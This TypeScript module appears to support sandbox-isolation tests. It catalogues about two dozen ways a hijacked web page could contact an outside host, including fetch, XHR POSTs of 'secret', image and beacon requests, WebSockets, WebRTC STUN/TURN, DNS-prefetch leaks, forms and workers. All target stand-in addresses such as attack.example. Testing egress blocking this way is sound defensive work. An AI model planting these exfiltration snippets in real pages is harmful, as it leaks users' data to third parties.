/** Somewhere beyond this machine, by its address and by a name. */
const FAR = '203.0.113.7'
const FAR6 = '[2001:db8:1::7]'
const NAME = 'attack.example'

/** [trust E2] The ways by which a page taken over would try to reach somebody: a name and what it runs. */
export const WAYS_OUT_OF_A_PAGE: Readonly<Record<string, string>> = {
  fetch: `fetch('http://${FAR}/a'); fetch('http://${FAR6}/a'); fetch('https://${NAME}/a')`,
  XMLHttpRequest: `for (const host of ['${FAR}', '${NAME}']) { const x = new XMLHttpRequest(); x.open('POST', 'http://' + host + '/x'); x.send('secret') }`,
  image: `for (const host of ['${FAR}', '${NAME}']) new Image().src = 'http://' + host + '/i.png?secret'`,
  'style sheet': `put('link', { rel: 'stylesheet', href: 'http://${FAR}/s.css' }); put('link', { rel: 'stylesheet', href: 'http://${NAME}/s.css' })`,
  font: `new FontFace('x', 'url(http://${FAR}/f.woff2)').load().catch(() => 0); new FontFace('y', 'url(http://${NAME}/f.woff2)').load().catch(() => 0)`,
  'video and sound': `put('video', { src: 'http://${FAR}/v.mp4' }).load(); put('audio', { src: 'http://${NAME}/a.mp3' }).load()`,
  WebSocket: `new WebSocket('ws://${FAR}/'); new WebSocket('wss://${NAME}/')`,
  WebTransport: `new WebTransport('https://${FAR}:4433/').ready.catch(() => 0); new WebTransport('https://${NAME}:4433/').ready.catch(() => 0)`,
  EventSource: `new EventSource('http://${FAR}/e'); new EventSource('http://${NAME}/e')`,
  beacon: `navigator.sendBeacon('http://${FAR}/b', 'secret'); navigator.sendBeacon('https://${NAME}/b', 'secret')`,
  prefetch: `put('link', { rel: 'prefetch', href: 'http://${FAR}/p' }); put('link', { rel: 'modulepreload', href: 'http://${NAME}/m.js' })`,
  preconnect: `put('link', { rel: 'preconnect', href: 'http://${FAR}/' }); put('link', { rel: 'preconnect', href: 'https://${NAME}/' })`,
  'dns-prefetch': `put('link', { rel: 'dns-prefetch', href: 'http://secret.${NAME}/' })`,
  frame: `put('iframe', { src: 'http://${FAR}/f' }); put('object', { data: 'http://${NAME}/o' }); put('embed', { src: 'http://${FAR}/e' })`,
  form: `const form = put('form', { action: 'http://${FAR}/', method: 'post', target: '_blank' }); form.submit()`,
  'window.open': `window.open('http://${FAR}/w'); window.open('http://${NAME}/w')`,
  'going there': `location.href = 'http://${FAR}/n'`,
  worker: `new Worker('http://${FAR}/w.js'); new Worker(URL.createObjectURL(new Blob(["fetch('http://${FAR}/w')"])))`,
  'WebRTC to a STUN server': `call(window, [{ urls: 'stun:${FAR}:3478' }, { urls: 'stun:${NAME}:3478' }])`,
  'WebRTC to a TURN server': `call(window, [{ urls: ['turn:${FAR}:3478?transport=udp', 'turn:${FAR}:3478?transport=tcp'], username: 'u', credential: 'c' }])`,
  'WebRTC to a peer': `meet('${FAR}')`,
  'WebRTC of an empty frame': `call(put('iframe', { src: 'about:blank' }).contentWindow, [{ urls: 'stun:${FAR}:3478' }])`,
  position: `navigator.geolocation.getCurrentPosition(() => 0, () => 0)`,
}

/** What the ways above are written with; what a way throws is its own affair. */
const TOOLS = `
  const put = (tag, attributes) => document.body.appendChild(Object.assign(document.createElement(tag), attributes))
  const call = (frame, iceServers) => {
    const peer = new frame.RTCPeerConnection({ iceServers })
    peer.createDataChannel('x')
    peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    return peer
  }
  const meet = async (host) => {
    const peer = call(window, [])
    const other = new RTCPeerConnection()
    other.createDataChannel('y')
    await new Promise((resolve) => setTimeout(resolve, 50))
    await other.setRemoteDescription(peer.localDescription)
    const answer = await other.createAnswer()
    await other.setLocalDescription(answer)
    await peer.setRemoteDescription(answer)
    const candidate = 'candidate:1 1 UDP 2122252543 ' + host + ' 9999 typ host'
    await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })
  }
`

/** An expression that takes one way, and is done whatever comes of it. */
export function takeWay(code: string): string {
  return `(async () => { ${TOOLS}; try { ${code} } catch { /* refused at once */ } })(); 0`
}
